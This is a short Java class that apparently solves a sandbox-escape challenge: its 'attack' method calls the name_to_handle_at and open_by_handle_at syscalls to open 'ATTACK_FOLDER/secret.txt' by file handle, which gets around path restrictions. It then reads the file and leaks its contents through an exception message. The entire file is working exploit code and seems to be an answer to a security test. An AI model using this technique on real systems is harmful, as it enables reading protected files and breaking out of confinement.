import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        MemorySegment handle = SystemCalls.memory(128 + 8);
        handle.set(ValueLayout.JAVA_INT, 0, 128);
        MemorySegment mount = SystemCalls.memory(4);
        SystemCalls.must(
                "name_to_handle_at", -100, SystemCalls.text("ATTACK_FOLDER/secret.txt"), handle, mount, 0);
        long file = SystemCalls.must("open_by_handle_at", -100, handle, 0);
        MemorySegment bytes = SystemCalls.memory(100);
        SystemCalls.must("read", file, bytes, 99);
        throw new IllegalStateException(bytes.getString(0));
    }
}
